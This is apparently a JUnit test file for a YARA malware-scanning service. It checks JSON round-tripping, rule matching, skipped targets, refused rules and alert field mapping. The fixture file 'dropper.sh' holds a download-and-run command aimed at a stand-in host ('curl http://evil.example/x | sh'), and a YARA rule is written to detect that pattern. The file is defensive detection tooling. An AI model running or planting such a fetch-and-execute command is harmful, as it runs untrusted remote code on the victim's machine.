package dev.kiroku.yara.scan;

import dev.kiroku.yara.api.RuleSource;
import dev.kiroku.yara.api.ScanOptions;
import dev.kiroku.yara.api.YaraJson;
import dev.kiroku.yara.api.YaraMatch;
import dev.kiroku.yara.api.YaraScanRequest;
import dev.kiroku.yara.api.YaraScanResult;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** A request as the server would send it, through JSON, executed for real, and its result back through JSON. */
class YaraScanServiceTest {
    @TempDir
    Path dir;

    @Test
    void requestRoundTripsThroughJsonAndResultCarriesMatchesSkipsAndRefusedRules() throws Exception {
        Path hit = Files.writeString(dir.resolve("dropper.sh"), "curl http://evil.example/x | sh");
        Files.writeString(dir.resolve("clean.txt"), "nothing here");
        YaraScanRequest request = new YaraScanRequest("sweep-1",
                List.of(new RuleSource("ops/dropper.yar", """
                                rule curl_pipe_sh : dropper {
                                    meta: description = "downloads and runs a script" author = "kiroku"
                                    strings: $c = /curl [^|]+\\| *sh/
                                    condition: $c and extension == ".sh"
                                }"""),
                        new RuleSource("broken.yar", "rule broken {\n condition: \n}")),
                List.of(dir.toString(), "/dev/zero"), List.of(), ScanOptions.defaults().withBudget(64L << 20, 0.5));

        YaraScanRequest received = YaraJson.read(YaraJson.write(request), YaraScanRequest.class);
        assertThat(received).isEqualTo(request);

        YaraScanResult result = YaraJson.read(YaraJson.write(new YaraScanService().execute(received)), YaraScanResult.class);
        assertThat(result.requestId()).isEqualTo("sweep-1");
        assertThat(result.filesScanned()).isEqualTo(2);
        assertThat(result.matches()).singleElement().satisfies(m -> {
            assertThat(m.rule()).isEqualTo("curl_pipe_sh");
            assertThat(m.namespace()).isEqualTo("ops/dropper.yar");
            assertThat(m.file()).isEqualTo(hit.toString());
            assertThat(m.strings()).singleElement().satisfies(s -> {
                assertThat(s.offset()).isZero();
                assertThat(s.preview()).isEqualTo("curl http://evil.example/x | sh");
            });
        });
        assertThat(result.skipped()).extracting(s -> s.target() + ": " + s.reason()).containsExactly("/dev/zero: character device");
        assertThat(result.refusedRules()).singleElement().satisfies(v -> {
            assertThat(v.file()).isEqualTo("broken.yar");
            assertThat(v.errors().getFirst().line()).isEqualTo(3);
        });
    }

    @Test
    void matchBecomesAlertDataInEcsFieldNames() {
        YaraMatch match = new YaraMatch("r", "ns", List.of("t"), Map.of("description", "d"),
                List.of(new dev.kiroku.yara.api.StringMatch("$a", 4096, 16, 3, "abc")), null, 42L);
        Map<String, Object> ecs = match.toEcs();
        assertThat(ecs).containsEntry("event.kind", "alert").containsEntry("rule.name", "r").containsEntry("rule.ruleset", "ns")
                .containsEntry("rule.description", "d").containsEntry("process.pid", 42L).containsEntry("tags", List.of("t"))
                .doesNotContainKey("file.path");
        assertThat(ecs.get("yara.strings")).isEqualTo(List.of(Map.of("identifier", "$a", "offset", 4112L, "length", 3, "preview", "abc")));
    }
}
